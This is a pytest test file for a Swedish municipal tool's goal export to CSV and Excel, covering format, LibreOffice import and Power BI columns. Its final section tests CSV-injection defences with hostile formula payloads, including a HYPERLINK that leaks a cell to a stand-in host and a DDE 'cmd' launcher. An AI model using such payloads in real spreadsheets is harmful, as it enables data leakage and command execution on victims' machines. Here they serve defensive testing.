"""`vp-excel export`: one row per goal and period, a CSV that LibreOffice with Swedish
settings opens as numbers (as Swedish Excel does by double-click), and the same rows as an
Excel table. Also: Exempelby's example workbooks are made byte for byte by their script."""

from __future__ import annotations

import csv
import importlib.util
import io
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest
from builders import run_cli
from openpyxl.utils import get_column_letter

from vp_excel.libreoffice import find_soffice
from vp_excel.reader import read_plan

ROOT = Path(__file__).resolve().parents[1]
EXEMPELBY = ROOT / "workbooks" / "exempelby"
READABLE = [EXEMPELBY / name for name in
            ("klk.xlsx", "socialforvaltningen.xlsx", "barn-och-utbildning.xlsx")]
COLUMNS = ["kommun", "verksamhet", "KF ÖG mål", "KF indikator", "styrgräns", "KS mål",
           "målvärde", "enhet", "period", "utfall", "status", "manuell", "källa",
           "indikatorutfall", "indikatorstatus",
           "periodstart", "periodslut", "mål-id", "kolada-id", "utveckling",
           "indikatorutveckling", "prognos helår", "kommentar prognos",
           # KLK's comparison columns, as its workbook names them
           "jämförelse Riket 2024", "jämförelse Länet 2024"]
SWEDISH_CSV = "CSV:59,34,76,1,,1053"  # semicolon, double quote, UTF-8, from line 1, sv-SE


def goals_times_periods(paths: list[Path]) -> int:
    """Every KS mål, or indicator without one, times the workbook's periods."""
    total = 0
    for path in paths:
        plan = read_plan(path)[0]
        rows = [row for kf in plan.kf_goals for row in kf.rows if row.ks_goal or row.indicator]
        total += len(rows) * len(plan.periods)
    return total


@pytest.fixture(scope="module")
def exported(tmp_path_factory) -> dict:
    out = tmp_path_factory.mktemp("export")
    done = run_cli("export", *READABLE, "--csv", out / "mal.csv", "--xlsx", out / "mal.xlsx")
    return {"run": done, "csv": out / "mal.csv", "xlsx": out / "mal.xlsx", "out": out}


def test_csv_is_semicolon_utf8_with_bom_one_row_per_goal_and_period(exported):
    assert exported["run"].returncode == 0, exported["run"].stderr
    data = exported["csv"].read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == COLUMNS
    expected = goals_times_periods(READABLE)
    assert expected == 105  # KLK keeps Delår 2 2024 beside its 2025 periods (issue 21)
    assert len(rows) - 1 == expected
    assert f"{expected} rader" in exported["run"].stdout
    outcomes = [row[COLUMNS.index("utfall")] for row in rows[1:]]
    assert "0,052" in outcomes and "-850" in outcomes  # decimal comma, no ".0"
    assert not any("." in value for value in outcomes if value[:1].isdigit())


@pytest.mark.skipif(find_soffice() is None, reason="LibreOffice (soffice) is not installed")
def test_libreoffice_with_swedish_settings_reads_the_csv_as_numbers(exported, tmp_path):
    profile = tmp_path / "profile"
    subprocess.run([find_soffice(), f"-env:UserInstallation={profile.as_uri()}", "--headless",
                    "--norestore", f"--infilter={SWEDISH_CSV}", "--convert-to", "xlsx",
                    "--outdir", str(tmp_path), str(exported["csv"])],
                   capture_output=True, timeout=300, check=True)
    sheet = openpyxl.load_workbook(tmp_path / "mal.xlsx", data_only=True).active
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == COLUMNS
    assert len(rows) - 1 == goals_times_periods(READABLE)
    col = {name: COLUMNS.index(name) for name in COLUMNS}
    sick = next(r for r in rows if r[col["KS mål"]] and r[col["KS mål"]].startswith(
        "Sjukfrånvaron inom kommunledningskontoret") and r[col["period"]] == "Delår 2 2025")
    assert sick[col["utfall"]] == pytest.approx(0.052)
    assert sick[col["målvärde"]] == pytest.approx(0.05)
    assert sick[col["status"]] == "GUL"
    budget = next(r for r in rows if r[col["KS mål"]] == "Socialförvaltningens budgetavvikelse "
                  "är minst 0 tkr" and r[col["period"]] == "Delår 2 2025")
    assert budget[col["utfall"]] == -3100
    numbers = [r[col["utfall"]] for r in rows[1:] if r[col["utfall"]] is not None]
    texts = [value for value in numbers if isinstance(value, str)]
    assert set(texts) <= {"Ja", "Nej"}, texts  # only Ja/Nej outcomes are words
    assert len(numbers) - len(texts) > 30


def test_xlsx_export_is_one_excel_table_with_the_same_rows(exported):
    book = openpyxl.load_workbook(exported["xlsx"])
    sheet = book.active
    assert list(sheet.tables) == ["Export"]
    table = sheet.tables["Export"]
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == COLUMNS
    assert table.ref == f"A1:{get_column_letter(len(COLUMNS))}{len(rows)}"
    assert len(rows) - 1 == goals_times_periods(READABLE)
    outcome = COLUMNS.index("utfall")
    assert any(isinstance(row[outcome], float) for row in rows[1:])
    riket = COLUMNS.index("jämförelse Riket 2024")
    assert 0.071 in [row[riket] for row in rows[1:]]  # a number, not text


def test_power_bi_columns_dates_id_trend_prognosis_comparisons(exported):
    """The columns docs/powerbi.md describes, with the values the workbooks give."""
    rows = list(csv.reader(io.StringIO(exported["csv"].read_text(encoding="utf-8-sig")),
                           delimiter=";"))
    col = {name: i for i, name in enumerate(rows[0])}
    klk = [r for r in rows[1:] if r[col["verksamhet"]] == "Kommunledningskontoret"]
    sick = [r for r in klk if r[col["KS mål"]].startswith("Sjukfrånvaron inom")]
    by_period = {r[col["period"]]: r for r in sick}
    now = by_period["Delår 2 2025"]
    assert (now[col["periodstart"]], now[col["periodslut"]]) == ("2025-01-01", "2025-08-31")
    assert by_period["Helår 2024"][col["periodslut"]] == "2024-12-31"
    assert now[col["utveckling"]] == "Förbättrad"  # 5,2% against 5,5% a year before
    assert now[col["indikatorutveckling"]] == "Förbättrad"
    assert now[col["prognos helår"]] == "GUL"
    assert now[col["kommentar prognos"]].startswith("Långtidsfrånvaron")
    assert now[col["jämförelse Riket 2024"]] == "0,071"
    # One id per goal, the same in every period, different between goals.
    assert len({r[col["mål-id"]] for r in sick}) == 1
    assert now[col["mål-id"]].startswith("kommunledningskontoret-")
    assert len({r[col["mål-id"]] for r in klk}) == len(klk) // len(by_period)


def test_one_verksamhet_in_two_workbooks_is_exported_twice(tmp_path):
    """Last year's and this year's plan of one verksamhet: both go into the export."""
    copy = tmp_path / "klk-2024.xlsx"
    copy.write_bytes(READABLE[0].read_bytes())
    done = run_cli("export", READABLE[0], copy, "--csv", tmp_path / "mal.csv")
    assert done.returncode == 0, done.stderr
    rows = (tmp_path / "mal.csv").read_text(encoding="utf-8-sig").splitlines()
    assert len(rows) - 1 == 2 * goals_times_periods(READABLE[:1])


def test_export_without_a_target_is_one_swedish_message(tmp_path):
    done = run_cli("export", READABLE[0])
    assert done.returncode == 1
    assert "ange --csv FIL eller --xlsx FIL" in done.stderr
    assert "Traceback" not in done.stderr


def test_exempelby_examples_are_made_byte_for_byte_by_their_script(tmp_path):
    spec = importlib.util.spec_from_file_location("make_exempelby",
                                                  ROOT / "workbooks" / "make_exempelby.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    written = module.write_all(tmp_path)
    assert len(written) >= 5
    for path in written:
        assert path.read_bytes() == (EXEMPELBY / path.name).read_bytes(), path.name


# --- CSV injection (OWASP): the kommun's words never become formulas ---------------------------

HOSTILE_TEXTS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"Klicka")',
                 "=cmd|' /C calc'!A0", "+SUM(1;2)", "-2+3", "@SUM(1;2)"]


def _hostile_workbook(folder: Path) -> Path:
    sys.path.insert(0, str(ROOT / "tests" / "corpus"))
    import make_corpus

    goals = [{"KF ÖG mål": "Ekonomi i balans", "KS mål": f"mål {n}", "Målvärde": "-2,2",
              "Regel": "Högre är bättre", "Utfall Delår 1 2025": "-2,2",
              "Utfall Delår 2 2025": -3}
             for n in range(len(HOSTILE_TEXTS))]
    path = make_corpus.build_valid_workbook(folder / "fientlig.xlsx", goals=goals)
    book = openpyxl.load_workbook(path)
    # Text cells (not formulas) that begin like formulas, as a kommun's own file can hold.
    cells = [(book["Inställningar"]["B2"], "=1+1 kommun")]  # Kommun: goes into every row
    cells += [(cell, HOSTILE_TEXTS[int(cell.value[4:])]) for row in book["Mål"].iter_rows()
              for cell in row if isinstance(cell.value, str) and cell.value.startswith("mål ")]
    for cell, text in cells:
        cell.value = text
        cell.data_type = "s"
    book.save(path)
    return path


@pytest.fixture(scope="module")
def hostile_csv(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    done = run_cli("export", _hostile_workbook(folder), "--csv", folder / "mal.csv")
    assert done.returncode == 0, done.stderr
    return folder / "mal.csv"


def test_csv_text_that_starts_a_formula_gets_an_apostrophe_and_quotes(hostile_csv):
    data = hostile_csv.read_text(encoding="utf-8-sig")
    rows = list(csv.reader(io.StringIO(data, newline=""), delimiter=";"))
    col = {name: COLUMNS.index(name) for name in COLUMNS}
    goals = {row[col["KS mål"]] for row in rows[1:]}
    assert goals == {"'" + text for text in HOSTILE_TEXTS}
    assert {row[col["kommun"]] for row in rows[1:]} == {"'=1+1 kommun"}
    for text in HOSTILE_TEXTS:  # quoted as well, as OWASP recommends
        assert '"' + "'" + text.replace('"', '""') + '"' in data
    outcomes = {row[col["utfall"]] for row in rows[1:]}
    assert outcomes <= {"-0,022", "-2,2", "-3", ""} and "-3" in outcomes  # numbers unescaped
    assert not [f for row in rows[1:] for f in row if f[:1] in ("=", "+", "@", "\t", "\r")]


@pytest.mark.parametrize("text, field", [
    ("\tSUMMA", '"\'\tSUMMA"'), ("\r=1+1", '"\'\r=1+1"'), ("=A1", '"\'=A1"'),
    ('=HYPERLINK("x")', '"\'=HYPERLINK(""x"")"'), ("-2,2", "-2,2"), ("-850 tkr", "-850 tkr"),
    ("-", '"\'-"'), ("Ja", "Ja"), ("a;b", '"a;b"')])
def test_write_csv_escapes_exactly_the_cells_a_spreadsheet_would_evaluate(tmp_path, text,
                                                                          field):
    """Texts the reader would clean (a leading tab or carriage return) can still reach the
    writer through the library; a Swedish number in a text column stays a number."""
    import pandas as pd

    from vp_excel.writers.export import write_csv

    path = tmp_path / "ut.csv"
    write_csv(pd.DataFrame({"KS mål": [text], "utfall": [-2.5]}), path)
    assert path.read_bytes().decode("utf-8-sig") == f"KS mål;utfall\r\n{field};-2,5\r\n"


def _libreoffice_cells(csv_path: Path, tmp_path: Path) -> list:
    """The CSV opened by LibreOffice with formula evaluation on (the most trusting import),
    as cells with their data type."""
    options = SWEDISH_CSV + ",false,true,false,false,false,0,true"  # token 13: evaluate
    subprocess.run([find_soffice(), f"-env:UserInstallation={(tmp_path / 'p').as_uri()}",
                    "--headless", "--norestore", f"--infilter={options}", "--convert-to",
                    "xlsx", "--outdir", str(tmp_path), str(csv_path)],
                   capture_output=True, timeout=300, check=True)
    sheet = openpyxl.load_workbook(tmp_path / (csv_path.stem + ".xlsx")).active
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


@pytest.mark.skipif(find_soffice() is None, reason="LibreOffice (soffice) is not installed")
def test_libreoffice_finds_no_formula_in_the_csv_and_numbers_stay_numbers(hostile_csv,
                                                                          tmp_path):
    control = tmp_path / "kontroll.csv"
    control.write_text("a;b\r\n=1+2;-2,2\r\n", encoding="utf-8-sig")
    assert any(c.data_type == "f" for c in _libreoffice_cells(control, tmp_path)), \
        "the import options do not evaluate formulas: the test would prove nothing"
    cells = _libreoffice_cells(hostile_csv, tmp_path)
    assert [c.value for c in cells if c.data_type == "f"] == []
    assert -3 in [c.value for c in cells if c.data_type == "n"]
    texts = {c.value for c in cells if c.data_type == "s"}
    assert "'+SUM(1;2)" in texts
